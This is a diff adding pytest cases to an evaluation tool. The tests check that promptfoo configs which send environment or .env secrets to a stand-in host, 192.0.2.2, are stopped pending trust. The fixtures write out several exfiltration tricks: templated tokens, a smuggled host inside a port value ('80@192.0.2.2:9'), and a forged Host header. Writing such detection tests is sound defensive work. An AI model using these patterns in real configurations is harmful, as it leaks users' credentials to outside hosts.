@@ -14,9 +14,10 @@ from aiohttp.test_utils import TestServer
 
 from tests.servers.openai import OpenAIServer
 from tests.support.promptfoo_files import Make
-from tui_eval.config.project import Config
+from tui_eval.config.project import Config, load
 from tui_eval.engine.prepare import prepare
 from tui_eval.engine.request import RunRequest
+from tui_eval.engine.wants import wants, wants_of_jobs
 from tui_eval.formats.promptfoo import read
 from tui_eval.formats.promptfoo.promptfoo_format import PROMPTFOO
 from tui_eval.formats.reading import load_all, problems_of
@@ -683,3 +684,80 @@ async def test_the_env_file_is_asked_for_where_a_suite_has_code(tmp_path: Path) 
     )
     read.read("promptfooconfig.yaml", inline, Config(root=tmp_path), trust)
     assert "read .env" in trust.wanted
+
+
+_FAR = "send a secret (in what promptfooconfig.yaml asks) to 192.0.2.2"
+_LOCAL = "http://127.0.0.1:9/"
+
+
+@pytest.mark.parametrize(
+    ("prompts", "provider", "test", "what"),
+    [
+        ("['hi {{env.MY_TOKEN}}']", "{id: 'http://192.0.2.2:9/', config: {BODY}}", "{vars: {q: a}}", _FAR),
+        ("['hi {{v}}']", "{id: 'http://192.0.2.2:9/', config: {BODY}}", "{vars: {v: '{{env.MY_TOKEN}}'}}", _FAR),
+        ("['hi']", "{id: 'http://192.0.2.2:9/', config: {BODY}}", "{vars: {v: '{{env.MY_TOKEN}}'}}", _FAR),
+        ("['file://p.txt']", "{id: 'http://192.0.2.2:9/', config: {BODY}}", "{vars: {q: a}}", _FAR),
+        ("['{{env.OF_FILE_KEY}}']", "{id: 'http://192.0.2.2:9/', config: {BODY}}", "{vars: {q: a}}", _FAR),
+        ("['{% set t = env.MY_TOKEN %}{{t | upper}}']", "{id: 'http://192.0.2.2:9/', config: {BODY}}", "{vars: {q: a}}", _FAR),
+        ("['{{env.MY_TOKEN | upper}}']", "{id: 'http://192.0.2.2:9/', config: {BODY}}", "{vars: {q: a}}", _FAR),
+        ("['{{env.MY_TOKEN}}']", "{id: 'openai:chat:m', config: {apiBaseUrl: 'http://192.0.2.2:9/v1'}}", "{vars: {q: a}}", _FAR),
+        ("['{{env.MY_TOKEN}}']", "{id: 'websocket', config: {url: 'ws://192.0.2.2:9/', messageTemplate: '{{prompt}}'}}", "{vars: {q: a}}", _FAR),
+        (
+            "['{{env.MY_TOKEN}}']", "{id: http, label: bot, config: {url: 'http://127.0.0.1:9/', request: \"POST / HTTP/1.1\\nHost: 192.0.2.2:9\\n\\n{{prompt}}\"}}",
+            "{vars: {q: a}}", _FAR,
+        ),
+        (
+            "['{{env.MY_TOKEN}}']", "{id: 'http://127.0.0.1:{{port}}/', label: bot, config: {BODY}}",
+            "{vars: {port: '80@192.0.2.2:9'}}", "send a secret (agents.bot.config) to 192.0.2.2",
+        ),
+        (
+            "['{{env.MY_TOKEN}}']", "{id: 'http://127.0.0.1:9/', label: bot, config: {BODY, session: {url: 'http://192.0.2.2:9/', body: {t: '{{prompt}}'}, responseParser: 'json.id'}}}",
+            "{vars: {q: a}}", "send a secret (agents.bot.config.session) to 192.0.2.2",
+        ),
+    ],
+)  # fmt: skip
+async def test_nor_in_what_is_asked(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, prompts: str, provider: str, test: str, what: str
+) -> None:
+    """A suite that may read a variable, or its `.env`, chose the host that its prompts go to, and put it in one."""
+    monkeypatch.setenv("MY_TOKEN", "sekret-0123456789")
+    (tmp_path / ".env").write_text("OF_FILE_KEY=sekret-of-a-file-1\n", "utf-8")
+    (tmp_path / "p.txt").write_text("hi {{ env.MY_TOKEN }}", "utf-8")
+    provider = provider.replace("BODY", "method: POST, body: {q: '{{prompt}}'}, maxRetries: 0")
+    (tmp_path / "promptfooconfig.yaml").write_text(
+        f"prompts: {prompts}\nproviders: [{provider}]\ndefaultTest: {{assert: [{{type: contains, value: hi}}]}}\n"
+        f"tests: [{test}]\n",
+        "utf-8",
+    )
+    agreed = ["read the environment variable MY_TOKEN", "read .env"]
+    (row,) = (await ran(tmp_path, agreed=agreed)).attempts()
+    assert row.outcome == "error"
+    assert row.message.startswith(f"needs trust: {what} ")
+
+
+async def test_what_is_asked_with_a_secret_in_it_is_listed_before_a_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Before the variable may be read, and once it is; not for this machine, nor the provider's own host."""
+    monkeypatch.setenv("MY_TOKEN", "sekret-0123456789")
+    monkeypatch.setenv("OPENAI_API_KEY", "sekret-9876543210")
+    reads = "read the environment variable MY_TOKEN"
+    for address, sends in (
+        ("http://192.0.2.2:9/v1", True),
+        ("http://127.0.0.1:9/v1", False),
+        ("https://api.openai.com/v1", False),
+    ):
+        (tmp_path / "promptfooconfig.yaml").write_text(
+            f"prompts: ['{{{{v}}}}']\nproviders: [{{id: 'openai:chat:m', config: {{apiBaseUrl: '{address}', apiKey: x}}}}]\n"
+            "tests:\n  - {vars: {v: plain}}\n  - {vars: {v: 'is {{env.MY_TOKEN}}'}}\n",
+            "utf-8",
+        )
+        for agreed in ([], [reads]):
+            active = await asyncio.to_thread(
+                prepare, RunRequest(paths=[str(tmp_path)], root=str(tmp_path), agreed=agreed)
+            )
+            listed = wants_of_jobs(active.jobs, active.config, active.environment.trust)
+            assert (_FAR in listed) is sends, (address, agreed)
+            assert (reads in listed) is (not agreed)
+            settings, trust = load([tmp_path], root=tmp_path), Trust(agreed=frozenset(agreed))
+            assert (_FAR in wants(load_all([tmp_path], settings, trust), settings, trust)) is sends
